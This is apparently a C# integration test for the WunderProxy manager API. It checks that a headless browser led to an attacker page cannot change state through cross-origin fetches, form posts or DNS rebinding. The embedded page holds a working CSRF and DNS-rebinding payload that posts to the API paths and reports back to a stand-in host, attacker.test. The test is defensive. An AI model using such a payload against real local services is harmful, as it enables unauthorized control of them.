using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Text;
using System.Text.RegularExpressions;
using WunderProxy.IntegrationTests.Infrastructure;

namespace WunderProxy.IntegrationTests.EndToEnd;

/// <summary>
/// A real browser on this machine is led to a page of somebody else, which tries to change things through the manager
/// API: from another origin by scripts and forms, and as its own origin after its name was rebound to this machine.
/// </summary>
[Parallelizable]
internal sealed partial class ReboundPageTests
{
    private static readonly string[] Paths = ["/switch", "/launch", "/deploy", "/rollback", "/pause", "/drain"];

    private static readonly string[] BrowserOptions =
    [
        "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
        "--disable-background-networking", "--disable-component-update", "--host-resolver-rules=MAP attacker.test 127.0.0.1",
    ];

    [Test]
    public async Task Page_can_change_nothing()
    {
        await using var service = await TestService.StartNewAsync(StoreKind.Folder, "r1", "r2");
        await service.DeployAsync(LaunchConfigText.Of("r1"));
        var other = await service.StoreConfigAsync(LaunchConfigText.Of("r2"));
        var before = await WhatCountsAsync(service);
        await using var attacker = new AttackerServer();
        await using var rebound = new TcpGate(attacker.Address);
        attacker.Page = PageOf(attacker.Address.Port, service.Api.Port, other);
        attacker.OnRebind = () => rebound.LeadTo(new Uri($"http://{service.Api}"));

        await BrowseAsync(((IPEndPoint)rebound.EndPoint).Port, attacker.Done);

        Assert.That(await WhatCountsAsync(service), Is.EqualTo(before), attacker.Said);
        foreach (var path in Paths)
        {
            Assert.That(attacker.Said, Does.Contain($"rebound {path} 403").And.Contain($"rebound with fields {path} 403"));
        }

        // All six ways of each path, of which the log tells the first and counts the others. A call that is repeated
        // counts twice.
        await Eventually.TrueAsync(
            "the count of the refused calls",
            () => RefusedIn(service.Process!.Errors) >= 6 * Paths.Length);
        var taken = Paths.SelectMany(path => LinesOf(service, path)).Where(line => !line.Contains("status=403 code=forbidden", StringComparison.Ordinal));
        Assert.That(taken.ToArray(), Has.Length.EqualTo(1).And.All.Contains("path=/deploy ").And.All.Contains("status=200"), "only the test's own deploy");

        // The same calls of a program on this machine are taken: it is the browser that is refused.
        Assert.That((await service.PostAsync("/pause")).Status, Is.EqualTo(200));
        Assert.That((await service.PostAsync("/resume")).Status, Is.EqualTo(200));
    }

    private static async Task BrowseAsync(int port, Task done)
    {
        var profile = Directory.CreateTempSubdirectory("wunderproxy-browser-");
        var start = new ProcessStartInfo(
            MachineProgram.PathOf("chromium"), [.. BrowserOptions, $"--user-data-dir={profile.FullName}", $"http://attacker.test:{port}/"])
        {
            UseShellExecute = false,
            RedirectStandardOutput = true,
            RedirectStandardError = true,
        };
        using var browser = Process.Start(start)!;
        var noise = Task.WhenAll(browser.StandardOutput.ReadToEndAsync(), browser.StandardError.ReadToEndAsync());
        try
        {
            await done.WaitAsync(TimeSpan.FromSeconds(90));
        }
        finally
        {
            browser.Kill(entireProcessTree: true);
            await browser.WaitForExitAsync();
            await noise;
            await DeleteAsync(profile);
        }
    }

    /// <summary>Processes of the browser that are about to end still write there.</summary>
    private static Task DeleteAsync(DirectoryInfo profile) => Eventually.TrueAsync("the end of the browser", () =>
    {
        try
        {
            profile.Delete(recursive: true);
            return true;
        }
        catch (IOException)
        {
            return false;
        }
    });

    private static int RefusedIn(string log) =>
        log.Split('\n').Count(line => line.Contains("status=403 code=forbidden", StringComparison.Ordinal) && !line.Contains("more calls were refused", StringComparison.Ordinal))
        + CountedRefusals().Matches(log).Sum(match => int.Parse(match.Groups["count"].Value, CultureInfo.InvariantCulture));

    [GeneratedRegex("(?<count>[0-9]+) more calls were refused", RegexOptions.None, 1000)]
    private static partial Regex CountedRefusals();

    private static string[] LinesOf(TestService service, string path) =>
        [.. service.Process!.Errors.Split('\n').Where(line => line.Contains($" method=POST path={path} ", StringComparison.Ordinal))];

    private static async Task<string> WhatCountsAsync(TestService service)
    {
        var status = await service.StatusAsync();
        return string.Join(
            '\n',
            status["Status"],
            status["Upstream"],
            (await service.GetAsync("/containers")).Text,
            (await service.GetAsync("/history")).Text,
            await service.ServedRevisionAsync());
    }

    /// <summary>
    /// The attacker's page. A browser gives up connections that it is about to make when a network of its machine
    /// changes, as containers of other tests make it: the page then makes its call again.
    /// </summary>
    private static string PageOf(int reports, int api, string hash)
    {
        var paths = string.Join(',', Paths.Select(path => $"'{path}'"));
        return $$$"""
            <!doctype html><title>harmless</title><link rel=icon href='data:,'><iframe name=sink></iframe><script>
            const paths = [{{{paths}}}], hash = '{{{hash}}}';
            const post = async (url, init) => {
              for (let tries = 1; ; tries++) {
                try { return await fetch(url, {method: 'POST', ...init}); }
                catch (e) { if (tries === 20) throw e; await new Promise(done => setTimeout(done, 100)); }
              }
            };
            const tell = text => post('http://attacker.test:{{{reports}}}/said', {mode: 'no-cors', body: text});
            const send = async (name, url, init) => {
              let answer;
              try { const r = await post(url, {body: hash, ...init}); answer = r.status || r.type; }
              catch (e) { answer = 'failed: ' + e; }
              await tell(name + ' ' + answer);
            };
            const submit = url => new Promise(done => {
              const form = document.createElement('form'), sink = document.querySelector('iframe');
              Object.assign(form, {method: 'post', enctype: 'text/plain', action: url, target: 'sink'});
              const input = document.createElement('input');
              Object.assign(input, {name: hash, value: ''});
              form.append(input);
              document.body.append(form);
              sink.onload = done;
              form.submit();
            });
            (async () => {
              for (const path of paths) {
                for (const host of ['127.0.0.1', 'localhost', 'attacker.test']) {
                  await send('script ' + host + path, 'http://' + host + ':{{{api}}}' + path, {mode: 'no-cors'});
                }
                // Twice, since the page cannot see whether a form arrived.
                for (const _ of [1, 2]) await submit('http://127.0.0.1:{{{api}}}' + path);
                await tell('form ' + path);
              }
              await post('http://attacker.test:{{{reports}}}/rebind', {mode: 'no-cors'});
              for (const path of paths) {
                await send('rebound ' + path, path, {});
                await send('rebound with fields ' + path, path, {headers: {'Authorization': 'Bearer guess', 'Content-Type': 'application/json'}});
              }
              await tell('done');
            })();
            </script>
            """;
    }

    /// <summary>Serves the page, hears what it says, and rebinds its name when it asks.</summary>
    private sealed class AttackerServer : IAsyncDisposable
    {
        private readonly TestHttpServer _server;
        private readonly TaskCompletionSource _done = new(TaskCreationOptions.RunContinuationsAsynchronously);
        private readonly StringBuilder _said = new();

        public AttackerServer() => _server = new TestHttpServer(AnswerAsync, host: "*");

        public Uri Address => new($"http://{_server.EndPoint}");

        public string Page { get; set; } = "";

        public Action OnRebind { get; set; } = () => { };

        public Task Done => _done.Task;

        public string Said
        {
            get
            {
                lock (_said)
                {
                    return _said.ToString();
                }
            }
        }

        public ValueTask DisposeAsync() => _server.DisposeAsync();

        private async Task<string> AnswerAsync(HttpListenerContext context)
        {
            using var reader = new StreamReader(context.Request.InputStream);
            var body = await reader.ReadToEndAsync();
            switch (context.Request.Url!.AbsolutePath)
            {
                case "/rebind":
                    OnRebind();
                    break;
                case "/said":
                    Hear(body);
                    break;
            }

            // The name is looked up anew for each connection, so the page's own must not stay open.
            context.Response.KeepAlive = false;
            context.Response.ContentType = "text/html";
            return Page;
        }

        private void Hear(string text)
        {
            lock (_said)
            {
                _said.AppendLine(text);
            }

            if (text == "done")
            {
                _done.TrySetResult();
            }
        }
    }
}
